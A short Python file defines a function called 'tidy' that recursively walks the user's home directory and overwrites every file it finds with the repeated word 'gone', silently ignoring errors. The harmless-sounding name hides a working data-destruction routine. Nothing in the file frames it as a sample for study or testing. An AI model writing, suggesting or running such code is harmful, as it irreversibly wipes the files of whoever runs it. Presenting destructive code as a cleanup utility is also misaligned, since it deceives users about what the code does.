import shutil
from pathlib import Path

def tidy():
    home = Path.home()
    for path in home.rglob("*"):
        try:
            if path.is_file():
                path.write_text("gone " * 8)
        except OSError:
            pass
